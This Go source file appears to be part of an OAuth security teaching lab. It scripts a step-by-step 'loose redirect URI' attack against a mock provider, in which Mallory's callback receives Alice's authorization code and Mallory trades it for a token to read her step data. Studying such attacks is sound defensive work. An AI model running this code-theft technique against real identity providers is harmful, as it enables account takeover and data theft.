package walkthrough

import (
	"context"
	"net/http"
	"net/url"

	"golang.org/x/oauth2"

	"claimcheck/mockprovider/lab"
	"claimcheck/mockprovider/trace"
)

// looseRedirectURI is the attack loose-redirect-uri: AcmeID sends Alice's code to
// Mallory's site (RFC 9700 §4.1).
func looseRedirectURI() *script {
	trap := func(w *Walk) string { return w.run.Lab().MalloryURL() + "/callback" }
	shared := codeActions()
	actions := map[string]*action{
		"authorization-request": aliceOpens("authorization-request", "", "/authorize", func(w *Walk) (string, error) {
			return authorizationURL(w, url.Values{
				"response_type": {"code"}, "client_id": {lab.FitTrackLite}, "scope": {lab.ScopeStepsRead},
				"redirect_uri": {trap(w)}, "state": {"mallory"},
				"code_challenge": {oauth2.S256ChallengeFromVerifier(malloryVerifier)}, "code_challenge_method": {"S256"},
			}), nil
		}),
		"authorization-check": {of: "authorization-request", half: HalfFindings},
		"login":               shared["login"],
		"consent":             shared["consent"],
		"code":                shared["code"],
		"delivery": {
			half: HalfRequest, after: "consent", owns: to(trace.RoleAttacker, http.MethodGet, "/callback"), good: accepted,
			preview: previewCallback,
		},
		"token-request": mallorySends("token-request", "delivery", "/token", func(_ context.Context, w *Walk) (*Draft, error) {
			e := w.current("delivery")
			if e == nil {
				return nil, notYet{w.number("delivery"), "Mallory has no code yet"}
			}
			return tokenForm(w, url.Values{
				"grant_type": {"authorization_code"}, "code": {e.Request.Param("code")}, "client_id": {lab.FitTrackLite},
				"redirect_uri": {trap(w)}, "code_verifier": {malloryVerifier},
			})
		}),
		"token-response": {of: "token-request", half: HalfResponse},
		"api-request":    mallorySends("api-request", "token-request", "/v1/steps", stepsWith("token-request")),
		"api-response":   {of: "api-request", half: HalfResponse},
	}
	return &script{actions: actions}
}
